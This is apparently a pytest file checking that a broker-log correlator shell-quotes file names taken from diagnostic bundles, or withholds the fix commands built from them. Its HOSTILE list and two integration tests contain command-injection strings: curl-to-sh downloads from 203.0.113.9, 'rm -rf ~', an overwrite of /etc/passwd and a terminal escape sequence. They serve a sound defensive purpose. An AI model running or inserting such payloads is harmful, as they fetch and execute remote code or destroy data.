"""Fix steps are safe to paste: a value taken from the bundle is shell-quoted in a command, and one
that holds shell or control characters withholds the command (the step says why). A corpus of
hostile names goes through the step filler, and two real incidents with hostile names in their
mosquitto.conf and certificate file come back with warnings, never with the injected command."""

from __future__ import annotations

import json
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from correlator.engine.remedy import StepTemplate, fill_step
from correlator.printable import printable
from correlator.tui.screen_text import fix_commands

SAMPLES = Path(__file__).resolve().parent.parent / "sample_logs"
CHECK = StepTemplate("Check the dates", "openssl x509 -in {cert_file} -noout -enddate")
HOSTILE = [
    "/tmp/x; curl -s http://203.0.113.9/p | sh; echo",
    "certs/$(curl -s http://203.0.113.9/p|sh).pem",
    "certs/`id`.pem",
    "certs/a.pem\nrm -rf ~",
    "certs/it's.pem",
    'certs/"quoted".pem',
    "certs/a.pem && reboot",
    "certs/a.pem > /etc/passwd",
    "certs/a\x1b]52;c;Y3VybA==\x07.pem",
    "certs/\u202emep.exe",
    "certs/back\\slash.pem",
]
#: Names that are odd but harmless once quoted: shown as commands.
ODD = ["certs/my server.pem", "certs/CN[4f2a].der", "certs/*.pem", "certs/~old.pem", "certs/#1.pem", "certs/ü.pem"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_withholds_the_command(name: str) -> None:
    step = fill_step(CHECK, {"cert_file": name})
    assert step is not None and step.command == ""
    assert step.warning.startswith("Not shown as a command") and "the certificate" in step.warning
    assert printable(step.warning) == step.warning  # the name is shown escaped, never raw


@pytest.mark.parametrize("name", ODD)
def test_an_odd_name_is_quoted_into_one_argument(name: str) -> None:
    step = fill_step(CHECK, {"cert_file": name})
    assert step is not None and not step.warning
    assert shlex.split(step.command) == ["openssl", "x509", "-in", name, "-noout", "-enddate"]


def test_a_config_line_keeps_its_value_but_not_a_newline() -> None:
    line = StepTemplate("Add the grant", "{acl_line_to_add}", kind="config")
    assert fill_step(line, {"acl_line_to_add": "topic write a/$b;c"}).command == "topic write a/$b;c"  # type: ignore[union-attr]
    refused = fill_step(line, {"acl_line_to_add": "topic write a\nuser root"})
    assert refused is not None and refused.command == "" and "control characters" in refused.warning


def test_a_step_needing_a_value_the_input_lacks_is_left_out() -> None:
    step = StepTemplate("Close it", "allow_anonymous false", kind="config", when="anonymous_tls_ports")
    assert fill_step(step, {}) is None
    assert fill_step(step, {"anonymous_tls_ports": "8883"}) is not None


def analyze(folder: Path) -> dict[str, object]:
    result = subprocess.run([sys.executable, "-m", "correlator", "analyze", str(folder), "--format", "json"],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode in (3, 4, 5), result.stderr
    report: dict[str, object] = json.loads(result.stdout)
    return report


def steps_of(report: dict[str, object], rule: str) -> list[dict[str, str]]:
    findings = [f for f in report["findings"] if f["id"] == rule]  # type: ignore[attr-defined]
    assert findings, [f["id"] for f in report["findings"]]  # type: ignore[attr-defined]
    return [step for f in findings for step in f["remediation"]]


def test_a_hostile_password_file_line_never_becomes_a_command(tmp_path: Path) -> None:
    folder = shutil.copytree(SAMPLES / "bad_credentials", tmp_path / "bundle")
    conf = folder / "broker" / "mosquitto.conf"
    conf.write_text(conf.read_text().replace("password_file passwd",
                                             "password_file /tmp/x; curl -s http://203.0.113.9/p | sh; echo"))
    steps = steps_of(analyze(folder), "auth.bad_credentials")
    assert not any("curl" in step["command"] for step in steps)
    assert any("curl" in step["warning"] for step in steps)
    assert any(step["command"] == "sudo systemctl reload mosquitto" for step in steps)  # the safe step stays


def test_a_hostile_certificate_name_never_becomes_a_command(tmp_path: Path) -> None:
    folder = shutil.copytree(SAMPLES / "server_cert_expired", tmp_path / "bundle")
    hostile = "$(curl -s 203.0.113.9|sh).pem"
    (folder / "certs" / "server.pem").rename(folder / "certs" / hostile)
    conf = folder / "broker" / "mosquitto.conf"
    conf.write_text(conf.read_text().replace("server.pem", hostile))
    report = analyze(folder)
    steps = steps_of(report, "tls.server_cert_expired")
    assert not any("curl" in step["command"] for step in steps)
    assert any("curl" in step["warning"] for step in steps)


def test_the_tui_copies_commands_only(tmp_path: Path) -> None:
    from correlator.report_model import Finding, FixStep

    finding = Finding("x", "high", "t", "e", "", 0.0, 0.0, remediation=[
        FixStep("Check", "openssl x509 -in certs/a.pem"), FixStep("Add", "topic read a/#", "config"),
        FixStep("Run", "", "shell", "Not shown as a command: ... '$(curl x|sh)'")])
    copied = fix_commands(finding).splitlines()
    assert copied[0] == "openssl x509 -in certs/a.pem"
    assert all(line.startswith("#") for line in copied[1:])
